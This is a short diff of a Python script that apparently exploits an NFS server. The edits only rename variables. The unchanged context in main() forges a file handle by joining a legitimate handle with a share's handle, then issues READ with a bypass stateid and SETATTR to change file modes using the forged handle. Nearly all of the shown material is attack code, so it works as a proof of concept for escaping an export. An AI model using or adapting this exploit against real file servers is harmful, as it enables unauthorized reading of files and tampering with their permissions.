@@ -97,14 +97,14 @@ def results(answer: bytes, count: int) -> list[bytes]:
     status, tag = struct.unpack_from(">II", answer)
     if status:
         raise Refused(status)
-    at, found = 8 + tag + -tag % 4 + 4, []
+    at, parts = 8 + tag + -tag % 4 + 4, []
     for _ in range(count):
         (number,) = struct.unpack_from(">I", answer, at)
         at += 8
         end = at + FIXED.get(number, len(answer))
-        found.append(answer[at:end])
+        parts.append(answer[at:end])
         at = end
-    return found
+    return parts
 
 
 def handle(session: Session, path: str) -> bytes:
@@ -136,8 +136,8 @@ def main() -> None:
     given = handle(session, file)
     forged = joined(given, handle(session, share))
     assert forged != given
-    for one in (given, forged):
-        put = (PUTFH, opaque(one))
+    for file_handle in (given, forged):
+        put = (PUTFH, opaque(file_handle))
         read = status(session, put, (READ, READ_BYPASS + struct.pack(">QI", 0, 4096)))
         print(read, status(session, put, (SETATTR, bytes(16) + MODE)))
     session.end()
